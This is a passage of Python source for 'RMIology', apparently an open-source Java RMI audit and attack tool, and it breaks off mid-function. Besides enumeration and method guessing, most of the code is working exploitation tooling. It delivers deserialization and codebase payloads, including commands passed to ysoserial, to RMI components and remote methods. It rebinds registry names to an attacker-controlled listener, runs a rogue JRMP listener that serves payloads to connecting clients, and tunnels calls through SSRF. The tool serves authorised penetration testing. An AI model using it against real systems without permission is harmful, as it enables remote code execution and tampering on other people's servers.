#!/usr/bin/env python3
# -*- coding: utf-8 -*-
#
# MIT License
#
# Copyright (c) 2026 Joris van de Vis
#
# Permission is hereby granted, free of charge, to any person obtaining a copy
# of this software and associated documentation files (the "Software"), to deal
# in the Software without restriction, including without limitation the rights
# to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
# copies of the Software, and to permit persons to whom the Software is
# furnished to do so, subject to the following conditions:
#
# The above copyright notice and this permission notice shall be included in all
# copies or substantial portions of the Software.
#
# THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
# IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
# FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
# AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
# LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
# OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
# SOFTWARE.
#
"""
RMIology - Java RMI Audit & Attack Tool

Enumerates RMI registries, guesses remote methods, scans ports for common
RMI misconfigurations and delivers deserialization and codebase payloads,
speaking the RMI wire protocol directly (no Java runtime needed except for
the optional ysoserial payload provider).

For authorized security testing only.

Dependencies: requests, rich (pip install requests rich)

Credits & Acknowledgments:
  remote-method-guesser - Tobias Neitzel (@qtc_de)
    https://github.com/qtc-de/remote-method-guesser
    Java RMI vulnerability scanner. Reference for the operation set,
    the method guessing approach and the registry / DGC / activator checks.

  ysoserial - Chris Frohoff (@frohoff)
    https://github.com/frohoff/ysoserial
    Deserialization gadget chains used by the optional payload provider.

  An Trinh (@_tint0) - "RMI registry localhost bypass" research.
"""

import sys
import os
import re
import json
import time
import shlex
import socket
import struct
import logging
import argparse
import subprocess
import threading
from concurrent.futures import ThreadPoolExecutor, TimeoutError as FutureTimeout
from dataclasses import dataclass, field
from datetime import datetime
from enum import Enum
from typing import List, Dict, Optional, Tuple, Any

from rich.console import Console
from rich.table import Table
from rich.progress import Progress, SpinnerColumn, BarColumn, TextColumn, TimeElapsedColumn, MofNCompleteColumn

from RMIology_wire import (
    RMIologyError, ValidationError, ConnectError, MalformedFrame,
    TRANSPORT_ERRORS, RMIConfig, ObjID, MethodSignature, Component, COMPONENTS,
    custom_component, type_descriptor, JavaObject, JavaArray,
    JRMI_MAGIC, PROTO_STREAM, PROTO_SINGLE_OP, PROTO_ACK, MSG_CALL, MSG_PING,
    MSG_PING_ACK, MSG_DGC_ACK, CALL_HEADER_SIZE,
    call_endpoint, encode_call, decode_call, encode_return, classify_return,
    read_string_array, extract_remote_ref, write_utf, java_null, java_string,
    java_primitive, serialized_remote_proxy, serialized_codebase_object,
    strip_stream_header, DEFAULT_CONNECT_TIMEOUT, DEFAULT_READ_TIMEOUT,
    DEFAULT_SCAN_CONNECT_TIMEOUT, DEFAULT_SCAN_READ_TIMEOUT, DEFAULT_THREADS,
)
from RMIology_scan import (
    Verdict, ScanAction, VulnScanner, MethodGuesser, RemoteTarget, CHECKS,
    DEFAULT_WORDLIST, parse_ports, load_wordlist, dedupe_targets,
    stub_class_names, random_name,
)
from RMIology_ssrf import SSRFStyle, wrap, render, deliver_http, decode_response, parse_response_hex

logger = logging.getLogger(__name__)


# ═══════════════════════════════════════════════════════════════════════════════
# RMIology Banner
# ═══════════════════════════════════════════════════════════════════════════════

RMIOLOGY_BANNER = r"""
[bold #00CC33]  ╔══════════════════════════════════════════════════════════════════╗
  ║                                                                  ║
  ║   ██████  ███    ███ ██  ██████  ██       ██████   ██████  ██  ██║
  ║   ██   ██ ████  ████ ██ ██    ██ ██      ██    ██ ██        ████ ║
  ║   ██████  ██ ████ ██ ██ ██    ██ ██      ██    ██ ██   ███   ██  ║
  ║   ██   ██ ██  ██  ██ ██ ██    ██ ██      ██    ██ ██    ██   ██  ║
  ║   ██   ██ ██      ██ ██  ██████  ███████  ██████   ██████    ██  ║
  ║                                                                  ║
  ║   Java RMI Audit  ·····  Sorry for calling you ;-)               ║
  ║   Fluent in JRMP · Registry · DGC · Activator                    ║
  ║                                                                  ║
  ╚══════════════════════════════════════════════════════════════════╝[/bold #00CC33]
"""


def print_banner(console):
    console.print(RMIOLOGY_BANNER)


# ═══════════════════════════════════════════════════════════════════════════════
# SECTION 1: Operations & Requests
# ═══════════════════════════════════════════════════════════════════════════════

class Operation(Enum):
    BIND = "bind"
    REBIND = "rebind"
    UNBIND = "unbind"
    LOOKUP = "lookup"
    ENUM = "enum"
    CALL = "call"
    GUESS = "guess"
    SCAN = "scan"
    SERIAL = "serial"
    CODEBASE = "codebase"
    LISTEN = "listen"


# Target rules: which of --bound-name / --objid / --component an operation takes
TARGET_NONE = "none"            # no target at all
TARGET_REGISTRY = "registry"    # bound name, component may only be the registry
TARGET_OPTIONAL = "optional"    # at most one of bound name / ObjID
TARGET_REMOTE = "remote"        # exactly one of bound name / ObjID
TARGET_ANY = "any"              # exactly one of bound name / ObjID / component


@dataclass(frozen=True)
class OperationSpec:
    min_positionals: int
    required: frozenset
    target_rule: str
    description: str
    usage: str = ""
    single_call: bool = False


OPERATIONS = {
    Operation.BIND: OperationSpec(
        1, frozenset({"bound_name"}), TARGET_REGISTRY,
        "Bind a remote object pointing to <listener> into the registry", "<listener-host:port>", True),
    Operation.REBIND: OperationSpec(
        1, frozenset({"bound_name"}), TARGET_REGISTRY,
        "Rebind a bound name to a remote object pointing to <listener>", "<listener-host:port>", True),
    Operation.UNBIND: OperationSpec(
        0, frozenset({"bound_name"}), TARGET_REGISTRY,
        "Remove a bound name from the registry", "", True),
    Operation.LOOKUP: OperationSpec(
        0, frozenset(), TARGET_REGISTRY,
        "Look up one bound name or every name in the registry", "", True),
    Operation.ENUM: OperationSpec(
        0, frozenset(), TARGET_NONE,
        "Enumerate the registry and check common misconfigurations", "[action ...]"),
    Operation.CALL: OperationSpec(
        1, frozenset({"signature"}), TARGET_REMOTE,
        "Call a method on a remote object", "<arguments>", True),
    Operation.GUESS: OperationSpec(
        0, frozenset(), TARGET_OPTIONAL,
        "Guess remote methods on bound names or an ObjID"),
    Operation.SCAN: OperationSpec(
        0, frozenset(), TARGET_NONE,
        "Scan ports for RMI endpoints and vulnerabilities", "[action ...]"),
    Operation.SERIAL: OperationSpec(
        1, frozenset(), TARGET_ANY,
        "Send a deserialization payload to a component or remote method", "<payload> [command]", True),
    Operation.CODEBASE: OperationSpec(
        2, frozenset(), TARGET_ANY,
        "Send an object annotated with a codebase URL", "<classname> <url>", True),
    Operation.LISTEN: OperationSpec(
        1, frozenset(), TARGET_NONE,
        "Answer incoming JRMP calls with a payload", "<payload> [command]"),
}

REGISTRY_METHODS = ("lookup", "bind", "rebind", "unbind")
DGC_METHODS = ("clean", "dirty")

# Checks enum runs after the registry listing when no action is named
ENUM_ACTIONS = [
    ScanAction.LOCALHOST_BYPASS, ScanAction.OUTDATED, ScanAction.FILTER,
    ScanAction.CODEBASE, ScanAction.ACTIVATOR,
]


@dataclass(frozen=True)
class Target:
    bound_name: Optional[str] = None
    objid: Optional[str] = None
    component: Optional[str] = None

    def given(self):
        return [name for name in ("bound_name", "objid", "component") if getattr(self, name)]


@dataclass
class OperationRequest:
    """Everything the core needs for one invocation, resolved by the CLI."""
    operation: Operation
    host: str
    port: str
    target: Target = field(default_factory=Target)
    arguments: List[str] = field(default_factory=list)
    signature: Optional[str] = None
    reg_method: str = "lookup"
    dgc_method: str = "clean"
    wordlist: Optional[List[str]] = None
    zero_arg: bool = False
    guess_duplicates: bool = False
    localhost_bypass: bool = False
    ssrf: Optional[str] = None
    ssrf_response: Optional[str] = None
    relay_url: Optional[str] = None
    argument_pos: Optional[int] = None


@dataclass
class Plan:
    """A validated request: every parsed input, ready for network I/O."""
    request: OperationRequest
    spec: OperationSpec
    ports: List[int] = field(default_factory=list)
    objid: Optional[ObjID] = None
    component: Optional[Component] = None
    signature: Optional[MethodSignature] = None
    arguments: bytes = b""
    payload: bytes = b""
    listener: Optional[Tuple[str, int]] = None
    actions: List[ScanAction] = field(default_factory=list)
    candidates: List[MethodSignature] = field(default_factory=list)
    ssrf: Optional[SSRFStyle] = None
    argument_pos: int = 0

    @property
    def operation(self):
        return self.request.operation

    @property
    def port(self):
        return self.ports[0]


@dataclass
class Record:
    target: str
    item: str
    status: str
    detail: str = ""
    data: Dict[str, Any] = field(default_factory=dict)

    def to_dict(self):
        d = {"target": self.target, "item": self.item, "status": self.status, "detail": self.detail}
        if self.data:
            d["data"] = self.data
        return d


@dataclass
class DispatchResult:
    operation: Operation
    target: str
    records: List[Record] = field(default_factory=list)
    error: Optional[Dict[str, str]] = None
    report: Any = None

    def add(self, item, status, detail="", target=None, **data):
        record = Record(target or self.target, item, status, detail, data)
        self.records.append(record)
        return record

    def fail(self, exc):
        self.error = {"kind": type(exc).__name__, "message": str(exc)}

    def to_dict(self):
        d = {
            "operation": self.operation.value,
            "target": self.target,
            "records": [r.to_dict() for r in self.records],
            "error": self.error,
        }
        if self.report is not None:
            d["report"] = self.report.to_dict()
        return d


class LookupFailed(RMIologyError):
    """A bound name could not be resolved to a remote reference."""


# ═══════════════════════════════════════════════════════════════════════════════
# SECTION 2: Argument & Payload Providers
# ═══════════════════════════════════════════════════════════════════════════════

ARGUMENT_TOKEN_RE = re.compile(r'\s*("(?:[^"\\]|\\.)*"|\'(?:[^\'\\]|\\.)\'|[^,]+)')
ESCAPE_RE = re.compile(r"\\(.)")


class ArgumentProvider:
    """Turns an argument string like '"id", 42, 7L, true, null' into call arguments.

    Supported literals: "string", 'c', int, long (L suffix), float (f suffix),
    double, true/false and null.
    """

    def _tokens(self, argument_string):
        tokens = []
        for m in ARGUMENT_TOKEN_RE.finditer(argument_string or ""):
            token = m.group(1).strip()
            if token:
                tokens.append(token)
        return tokens

    def marshal(self, token):
        if token.startswith('"') and token.endswith('"') and len(token) >= 2:
            return java_string(ESCAPE_RE.sub(r"\1", token[1:-1]))
        if token.startswith("'") and token.endswith("'") and len(token) >= 3:
            char = ESCAPE_RE.sub(r"\1", token[1:-1])
            if len(char) != 1 or ord(char) > 0xffff:
                raise ValidationError("Invalid char literal: %s" % token)
            return java_primitive("C", ord(char))
        if token == "null":
            return java_null()
        if token in ("true", "false"):
            return java_primitive("Z", token == "true")
        try:
            if re.fullmatch(r"-?\d+[lL]", token):
                return java_primitive("J", int(token[:-1]))
            if re.fullmatch(r"-?\d+", token):
                return java_primitive("I", int(token))
            if re.fullmatch(r"-?\d+(\.\d*)?([eE]-?\d+)?[fF]", token):
                return java_primitive("F", float(token[:-1]))
            if re.fullmatch(r"-?\d+\.\d*([eE]-?\d+)?[dD]?|-?\d+[eE]-?\d+[dD]?|-?\d+[dD]", token):
                return java_primitive("D", float(token.rstrip("dD")))
        except (struct.error, OverflowError):
            raise ValidationError("Argument out of range: %s" % token)
        raise ValidationError("Unsupported argument literal: %s" % token)

    def produce_arguments(self, argument_string):
        return [self.marshal(token) for token in self._tokens(argument_string)]


class PayloadProvider:
    """Reads serialized payload bytes: file:<path>, hex:<data> or a plain path."""

    def produce_payload(self, operation, spec):
        spec = (spec or "").strip()
        if not spec:
            raise ValidationError("%s requires a payload" % operation.value)
        if spec.startswith("hex:"):
            try:
                data = bytes.fromhex(re.sub(r"\s+", "", spec[4:]))
            except ValueError:
                raise ValidationError("Payload is not valid hex")
        else:
            path = spec[5:] if spec.startswith("file:") else spec
            try:
                with open(path, "rb") as f:
                    data = f.read()
            except OSError as e:
                raise ValidationError("Unable to read payload %s: %s" % (path, e.strerror or e))
        data = strip_stream_header(data)
        if not data:
            raise ValidationError("Payload is empty")
        return data


class YsoserialPayloadProvider(PayloadProvider):
    """Generates payloads with an external ysoserial jar: spec is '<gadget> <command>'."""

    def __init__(self, jar_path, java="java", timeout=60):
        self.jar_path = jar_path
        self.java = java
        self.timeout = timeout

    def produce_payload(self, operation, spec):
        parts = (spec or "").strip().split(None, 1)
        if len(parts) != 2:
            raise ValidationError("ysoserial payloads need <gadget> <command>")
        gadget, command = parts
        cmd = [self.java, "-jar", self.jar_path, gadget, command]
        logger.debug("running %s", " ".join(shlex.quote(c) for c in cmd))
        try:
            proc = subprocess.run(cmd, capture_output=True, timeout=self.timeout, check=False)
        except FileNotFoundError:
            raise ValidationError("Unable to run %s" % self.java)
        except subprocess.TimeoutExpired:
            raise ValidationError("ysoserial did not finish within %ds" % self.timeout)
        if proc.returncode != 0 or not proc.stdout:
            message = proc.stderr.decode("utf-8", errors="replace").strip().splitlines()
            raise ValidationError("ysoserial failed: %s" % (message[-1] if message else "no output"))
        return strip_stream_header(proc.stdout)


# ═══════════════════════════════════════════════════════════════════════════════
# SECTION 3: Listener
# ═══════════════════════════════════════════════════════════════════════════════

class JRMPListener:
    """Minimal JRMP endpoint answering every call with an exceptional return.

    The return carries the payload bytes as the "exception" object, so a
    client that deserializes it triggers the payload.
    """

    def __init__(self, host, port, payload, config, cancel_event=None):
        self.host = host
        self.port = port
        self.payload = payload
        self.config = config
        self.cancel_event = cancel_event or threading.Event()
        self.served = []

    def serve(self, max_calls=None, callback=None):
        with socket.create_server((self.host, self.port), reuse_port=False) as server:
            server.settimeout(0.5)
            logger.info("listening on %s:%d", self.host, self.port)
            while not self.cancel_event.is_set():
                if max_calls is not None and len(self.served) >= max_calls:
                    break
                try:
                    conn, addr = server.accept()
                except socket.timeout:
                    continue
                with conn:
                    try:
                        call = self.handle(conn, addr)
                    except (OSError, RMIologyError) as e:
                        logger.warning("connection from %s:%d failed: %s", addr[0], addr[1], e)
                        continue
                if call is not None:
                    self.served.append((addr, call))
                    if callback:
                        callback(addr, call)
        return self.served

    def _recv_exact(self, conn, n):
        data = b""
        while len(data) < n:
            chunk = conn.recv(n - len(data))
            if not chunk:
                raise ConnectionError("client closed the connection")
            data += chunk
        return data

    def handle(self, conn, addr):
        conn.settimeout(self.config.read_timeout)
        header = self._recv_exact(conn, 7)
        if header[:4] != JRMI_MAGIC:
            raise MalformedFrame("client did not send a JRMI header")
        if header[6] == PROTO_STREAM:
            conn.sendall(bytes([PROTO_ACK]) + write_utf(addr[0]) + struct.pack("!i", addr[1]))
            length = struct.unpack("!H", self._recv_exact(conn, 2))[0]
            self._recv_exact(conn, length + 4)
        elif header[6] != PROTO_SINGLE_OP:
            raise MalformedFrame("unsupported protocol 0x%02x" % header[6])

        while True:
            op = self._recv_exact(conn, 1)[0]
            if op == MSG_PING:
                conn.sendall(bytes([MSG_PING_ACK]))
                continue
            if op == MSG_DGC_ACK:
                self._recv_exact(conn, 14)
                continue
            if op != MSG_CALL:
                raise MalformedFrame("unexpected message 0x%02x" % op)
            data = bytes([op]) + self._recv_exact(conn, 4 + 2 + CALL_HEADER_SIZE)
            call = decode_call(data)
            logger.info("call from %s:%d objid=%s op=%d hash=%d",
                        addr[0], addr[1], call.objid, call.opnum, call.method_hash)
            conn.sendall(encode_return(self.payload, exceptional=True))
            return call


# ═══════════════════════════════════════════════════════════════════════════════
# SECTION 4: Dispatcher
# ═══════════════════════════════════════════════════════════════════════════════

def parse_endpoint(text):
    host, sep, port = (text or "").rpartition(":")
    if not sep or not host:
        raise ValidationError("Expected <host>:<port>, got '%s'" % text)
    try:
        port = int(port)
    except ValueError:
        raise ValidationError("Invalid port in '%s'" % text)
    if not 0 < port < 65536:
        raise ValidationError("Port out of range in '%s'" % text)
    return host, port


def place_argument(signature, position, argument):
    """Call arguments with argument at position; other slots get null or zero."""
    args = b""
    for index, param in enumerate(signature.param_types):
        if index == position:
            args += argument
        elif signature.param_is_primitive(index):
            args += java_primitive(type_descriptor(param), 0)
        else:
            args += java_null()
    return args


def describe_value(frame):
    if frame.is_exception:
        return frame.describe()
    if frame.primitive:
        return "primitive 0x%s" % frame.primitive.hex()
    value = frame.value
    if value is None:
        return "null"
    if isinstance(value, str):
        return repr(value)
    if isinstance(value, JavaArray):
        return "%s[%d]" % (value.class_desc.name, len(value.values or []))
    if isinstance(value, JavaObject):
        return "instance of %s" % ", ".join(value.class_desc.class_names())
    return type(value).__name__


class Dispatcher:
    """Validates an OperationRequest and executes it.

    Validated -> Targeted -> Executed; the returned DispatchResult is what the
    output layer reports. Nothing touches the network before validate() has
    succeeded.
    """

    def __init__(self, config, argument_provider=None, payload_provider=None,
                 cancel_event=None, progress=None):
        self.config = config
        self.argument_provider = argument_provider or ArgumentProvider()
        self.payload_provider = payload_provider or PayloadProvider()
        self.cancel_event = cancel_event or threading.Event()
        self.progress = progress

    # ── Validation ──

    def validate(self, request):
        spec = OPERATIONS.get(request.operation)
        if spec is None:
            raise ValidationError("Unsupported operation: %s" % request.operation)
        plan = Plan(request, spec)
        op = request.operation.value

        if not request.host:
            raise ValidationError("%s requires a host" % op)
        if len(request.arguments) < spec.min_positionals:
            raise ValidationError("usage: rmiology <host> <port> %s %s" % (op, spec.usage))
        for name in spec.required:
            if not (getattr(request, name, None) or getattr(request.target, name, None)):
                raise ValidationError("%s requires --%s" % (op, name.replace("_", "-")))
        self._validate_target(request, spec)

        if self.config.threads < 1:
            raise ValidationError("--threads must be at least 1")
        plan.ports = parse_ports(request.port)
        if request.operation is not Operation.SCAN and len(plan.ports) != 1:
            raise ValidationError("%s takes a single port" % op)
        if request.operation is Operation.SCAN:
            plan.actions = ScanAction.parse(request.arguments)
        elif request.operation is Operation.ENUM:
            plan.actions = ScanAction.parse(request.arguments) if request.arguments else list(ENUM_ACTIONS)

        if request.target.objid:
            plan.objid = ObjID.parse(request.target.objid)
        if request.target.component:
            plan.component = Component.by_short_name(request.target.component)
        if request.signature:
            plan.signature = MethodSignature.parse(request.signature)
        if request.reg_method not in REGISTRY_METHODS:
            raise ValidationError("Unsupported registry method '%s' (use %s)" % (
                request.reg_method, ", ".join(REGISTRY_METHODS)))
        if request.dgc_method not in DGC_METHODS:
            raise ValidationError("Unsupported DGC method '%s' (use %s)" % (
                request.dgc_method, ", ".join(DGC_METHODS)))

        self._validate_ssrf(request, spec, plan)

        if request.operation in (Operation.BIND, Operation.REBIND):
            plan.listener = parse_endpoint(request.arguments[0])
        elif request.operation is Operation.CALL:
            args = self.argument_provider.produce_arguments(request.arguments[0])
            if len(args) != plan.signature.argument_count:
                raise ValidationError("%s takes %d argument(s), %d given" % (
                    plan.signature.name, plan.signature.argument_count, len(args)))
            plan.arguments = b"".join(args)
        elif request.operation in (Operation.SERIAL, Operation.LISTEN):
            plan.payload = self.payload_provider.produce_payload(
                request.operation, " ".join(request.arguments))
        elif request.operation is Operation.GUESS:
            lines = request.wordlist if request.wordlist is not None else DEFAULT_WORDLIST
            plan.candidates = load_wordlist(lines)
            if not plan.candidates:
                raise ValidationError("The wordlist contains no usable signatures")

        if request.argument_pos is not None and (
                request.operation not in (Operation.SERIAL, Operation.CODEBASE) or plan.component is not None):
            raise ValidationError("--argument-pos only applies to %s against a remote method" % op)
        if request.operation in (Operation.SERIAL, Operation.CODEBASE) and plan.component is None:
            if plan.signature is None:
                raise ValidationError("%s against a remote object requires --signature" % op)
            plan.argument_pos = self._argument_position(plan.signature, request.argument_pos, op)
        return plan

    @staticmethod
    def _argument_position(signature, position, op):
        """Pick the parameter slot that carries the payload object."""
        objects = [i for i in range(signature.argument_count) if not signature.param_is_primitive(i)]
        if not objects:
            raise ValidationError("%s needs a method with a non-primitive parameter" % op)
        if position is None:
            return objects[0]
        if not 0 <= position < signature.argument_count:
            raise ValidationError("--argument-pos %d is out of range for %s" % (position, signature))
        if position not in objects:
            raise ValidationError("--argument-pos %d points at primitive parameter %s" % (
                position, signature.param_types[position]))
        return position

    def _validate_target(self, request, spec):
        op = request.operation.value
        target = request.target
        given = target.given()
        if spec.target_rule == TARGET_NONE and given:
            raise ValidationError("%s does not take --%s" % (op, given[0].replace("_", "-")))
        if spec.target_rule == TARGET_REGISTRY:
            if target.objid:
                raise ValidationError("%s only works against the registry (drop --objid)" % op)
            if target.component and target.component.strip().lower() != "reg":
                raise ValidationError("%s only works against the registry component" % op)
            if target.component and target.bound_name and request.operation not in (
                    Operation.BIND, Operation.REBIND):
                raise ValidationError("%s takes --bound-name or --component reg, not both" % op)
        if spec.target_rule == TARGET_OPTIONAL:
            if target.component:
                raise ValidationError("%s does not take --component" % op)
            if len(given) > 1:
                raise ValidationError("%s takes at most one of --bound-name / --objid" % op)
        if spec.target_rule == TARGET_REMOTE:
            if target.component or len(given) != 1:
                raise ValidationError("%s requires exactly one of --bound-name / --objid" % op)
        if spec.target_rule == TARGET_ANY and len(given) != 1:
            raise ValidationError("%s requires exactly one of --bound-name / --objid / --component" % op)

    def _validate_ssrf(self, request, spec, plan):
        op = request.operation.value
        if not (request.ssrf or request.ssrf_response):
            if request.relay_url:
                raise ValidationError("--relay requires --ssrf http")
            return
        if request.ssrf and request.ssrf_response:
            raise ValidationError("--ssrf and --ssrf-response are mutually exclusive")
        if not spec.single_call:
            raise ValidationError("%s cannot be tunnelled (single-call operations only)" % op)
        if request.operation is Operation.LOOKUP and not request.target.bound_name:
            raise ValidationError("lookup through SSRF requires --bound-name")
        if request.operation in (Operation.CALL, Operation.SERIAL, Operation.CODEBASE) \
                and request.target.bound_name:
            raise ValidationError("%s through SSRF needs --objid or --component "
                                  "(bound names require a live lookup)" % op)
        if request.ssrf:
            plan.ssrf = SSRFStyle.parse(request.ssrf)
            if request.relay_url and plan.ssrf is not SSRFStyle.HTTP:
                raise ValidationError("--relay requires --ssrf http")
        else:
            parse_response_hex(request.ssrf_response)

    # ── Targeting ──

    def resolve_bound_name(self, plan, name):
        """Registry lookup of name -> RemoteTarget for the object's endpoint."""
        host, port = plan.request.host, plan.port
        spec = COMPONENTS[Component.REGISTRY]
        opnum, method_hash = spec.dispatch("lookup")
        frame = call_endpoint(host, port, self.config, spec.objid, opnum, method_hash,
                              java_string(name), expect_value=True)
        if frame.is_exception:
            raise LookupFailed("lookup of '%s' failed: %s" % (name, frame.describe()))
        ref = extract_remote_ref(frame.value)
        if ref is None:
            raise LookupFailed("'%s' is not bound to a remote object" % name)
        ref_host = ref.host if self.config.follow else host
        if ref.host != host and not self.config.follow:
            logger.info("'%s' points to %s:%d, using %s (pass --follow to use the remote host)",
                        name, ref.host, ref.port, host)
        return RemoteTarget(name, ref_host, ref.port, ref.objid, tuple(stub_class_names(frame.value)))

    def _single_target(self, plan):
        if plan.request.target.bound_name:
            return self.resolve_bound_name(plan, plan.request.target.bound_name)
        return RemoteTarget(str(plan.objid), plan.request.host, plan.port, plan.objid)

    # ── Execution ──

    def dispatch(self, request_or_plan):
        plan = request_or_plan if isinstance(request_or_plan, Plan) else self.validate(request_or_plan)
        result = DispatchResult(plan.operation, "%s:%s" % (plan.request.host, plan.request.port))
        handler = getattr(self, "_op_%s" % plan.operation.value)
        try:
            handler(plan, result)
        except LookupFailed as e:
            result.fail(e)
            result.add(plan.request.target.bound_name or "lookup", "failed", str(e))
        except TRANSPORT_ERRORS as e:
            result.fail(e)
            result.add(plan.operation.value, Verdict.ERROR.value, str(e))
        except MalformedFrame as e:
            result.fail(e)
            result.add(plan.operation.value, Verdict.INCONCLUSIVE.value, "malformed response: %s" % e)
        return result

    def _single_call(self, plan, result, host, port, objid, opnum, method_hash, args,
                     expect_value=True):
        """One call, or the tunnel bytes for it when SSRF output is requested."""
        request = plan.request
        if request.ssrf_response:
            return decode_response(parse_response_hex(request.ssrf_response), expect_value)
        if plan.ssrf is None:
            return call_endpoint(host, port, self.config, objid, opnum, method_hash, args,
                                 expect_value=expect_value)

        tunnel = wrap(encode_call(objid, opnum, method_hash, args), plan.ssrf, host, port)
        if plan.ssrf is SSRFStyle.HTTP and request.relay_url:
            answer = deliver_http(request.relay_url, tunnel, self.config.read_timeout)
            return decode_response(answer, expect_value)
        result.add("ssrf-%s" % plan.ssrf.value, "payload", render(tunnel, plan.ssrf))
        return None

    def _component_dispatch(self, plan, component, method):
        return COMPONENTS[component].dispatch(method, hash_dispatch=plan.request.localhost_bypass)

    def _op_bind(self, plan, result, rebind=False):
        name = plan.request.target.bound_name
        method = "rebind" if rebind else "bind"
        lhost, lport = plan.listener
        opnum, method_hash = self._component_dispatch(plan, Component.REGISTRY, method)
        objid = ObjID(struct.unpack("!q", os.urandom(8))[0] & 0x7fffffffffffffff)
        args = java_string(name) + serialized_remote_proxy(lhost, lport, objid)
        frame = self._single_call(plan, result, plan.request.host, plan.port,
                                  COMPONENTS[Component.REGISTRY].objid, opnum, method_hash, args,
                                  expect_value=False)
        if frame is None:
            return
        markers = classify_return(frame)
        if not frame.is_exception:
            result.add(name, "success", "%s -> %s:%d" % (method, lhost, lport))
        elif "already_bound" in markers:
            result.add(name, "failed", "name is already bound (use rebind)")
        elif "access_denied" in markers:
            result.add(name, "rejected", "registry refused the non-local %s (try --localhost-bypass)" % method)
        elif "filter_rejected" in markers:
            result.add(name, "rejected", "bound object rejected by the deserialization filter")
        else:
            result.add(name, "inconclusive", frame.describe())

    def _op_rebind(self, plan, result):
        self._op_bind(plan, result, rebind=True)

    def _op_unbind(self, plan, result):
        name = plan.request.target.bound_name
        opnum, method_hash = self._component_dispatch(plan, Component.REGISTRY, "unbind")
        frame = self._single_call(plan, result, plan.request.host, plan.port,
                                  COMPONENTS[Component.REGISTRY].objid, opnum, method_hash,
                                  java_string(name), expect_value=False)
        if frame is None:
            return
        markers = classify_return(frame)
        if not frame.is_exception:
            result.add(name, "success", "removed from the registry")
        elif "not_bound" in markers:
            result.add(name, "failed", "name is not bound")
        elif "access_denied" in markers:
            result.add(name, "rejected", "registry refused the non-local unbind (try --localhost-bypass)")
        else:
            result.add(name, "inconclusive", frame.describe())

    def _list(self, plan):
        spec = COMPONENTS[Component.REGISTRY]
        opnum, method_hash = spec.dispatch("list")
        frame = call_endpoint(plan.request.host, plan.port, self.config, spec.objid, opnum,
                              method_hash, expect_value=True)
        if frame.is_exception:
            raise LookupFailed("list failed: %s" % frame.describe())
        return read_string_array(frame)

    def _lookup_record(self, result, name, frame):
        if frame.is_exception:
            result.add(name, "failed", frame.describe())
            return
        ref = extract_remote_ref(frame.value)
        classes = stub_class_names(frame.value)
        detail = ", ".join(classes) or describe_value(frame)
        if ref:
            detail += " @ %s:%d objid=%s" % (ref.host, ref.port, ref.objid)
            if ref.socket_factory:
                detail += " (socket factory %s)" % ref.socket_factory
        jmx = any("javax.management.remote.rmi.RMIServer" in c for c in classes)
        result.add(name, "bound", detail, classes=classes,
                   ref=ref.to_dict() if ref else None, jmx=jmx)

    def _op_lookup(self, plan, result):
        spec = COMPONENTS[Component.REGISTRY]
        opnum, method_hash = spec.dispatch("lookup")
        name = plan.request.target.bound_name
        names = [name] if name else self._list(plan)
        if not names:
            result.add("registry", "empty", "no bound names")
        for n in names:
            frame = self._single_call(plan, result, plan.request.host, plan.port, spec.objid,
                                      opnum, method_hash, java_string(n), expect_value=True)
            if frame is None:
                continue
            self._lookup_record(result, n, frame)

    def _enum_registry(self, plan, result):
        names = self._list(plan)
        spec = COMPONENTS[Component.REGISTRY]
        opnum, method_hash = spec.dispatch("lookup")
        for name in names:
            try:
                frame = call_endpoint(plan.request.host, plan.port, self.config, spec.objid,
                                      opnum, method_hash, java_string(name), expect_value=True)
            except ConnectError:
                raise
            except TRANSPORT_ERRORS + (MalformedFrame,) as e:
                result.add(name, Verdict.ERROR.value, str(e))
                continue
            self._lookup_record(result, name, frame)
        return "info", "%d bound name(s)%s" % (len(names), ": " + ", ".join(names) if names else "")

    def _op_enum(self, plan, result):
        host, port = plan.request.host, plan.port
        steps = [("registry", lambda: self._enum_registry(plan, result))]
        for action in plan.actions:
            steps.append((action.value, lambda check=CHECKS[action]: check(host, port, self.config)))

        for index, (name, step) in enumerate(steps):
            try:
                status, detail = step()
            except ConnectError as e:
                result.fail(e)
                result.add(name, Verdict.ERROR.value, str(e))
                for skipped, _ in steps[index + 1:]:
                    result.add(skipped, Verdict.INCONCLUSIVE.value, "skipped: endpoint unreachable")
                return
            except LookupFailed as e:
                status, detail = Verdict.INCONCLUSIVE.value, str(e)
            except TRANSPORT_ERRORS as e:
                status, detail = Verdict.ERROR.value, str(e)
            except MalformedFrame as e:
                status, detail = Verdict.INCONCLUSIVE.value, "malformed response: %s" % e
            result.add(name, getattr(status, "value", status), detail)

    def _op_call(self, plan, result):
        target = self._single_target(plan)
        sig = plan.signature
        frame = self._single_call(plan, result, target.host, target.port, target.objid, -1,
                                  sig.method_hash, plan.arguments, expect_value=sig.returns_object)
        if frame is None:
            return
        if frame.is_exception:
            status = "no-such-method" if "no_such_method" in classify_return(frame) else "exception"
            result.add(str(sig), status, frame.describe(), target=target.label)
        else:
            result.add(str(sig), "success", describe_value(frame), target=target.label)

    def _attack_call(self, plan, result, argument):
        """Place argument where the selected component or method unmarshals an object."""
        request = plan.request
        if plan.component is Component.REGISTRY:
            method = request.reg_method
            opnum, method_hash = self._component_dispatch(plan, Component.REGISTRY, method)
            args = argument if method in ("lookup", "unbind") else java_string(random_name()) + argument
            return method, self._component_call(plan, result, Component.REGISTRY, method,
                                                opnum, method_hash, args)
        if plan.component is Component.DGC:
            method = request.dgc_method
            opnum, method_hash = COMPONENTS[Component.DGC].dispatch(method)
            return method, self._component_call(plan, result, Component.DGC, method,
                                                opnum, method_hash, argument)
        if plan.component is Component.ACTIVATOR:
            opnum, method_hash = COMPONENTS[Component.ACTIVATOR].dispatch("activate")
            return "activate", self._component_call(plan, result, Component.ACTIVATOR, "activate",
                                                    opnum, method_hash, argument + java_primitive("Z", False))
        target = self._single_target(plan)
        spec = custom_component(target.objid, plan.signature)
        opnum, method_hash = spec.dispatch(plan.signature.name)
        args = place_argument(plan.signature, plan.argument_pos, argument)
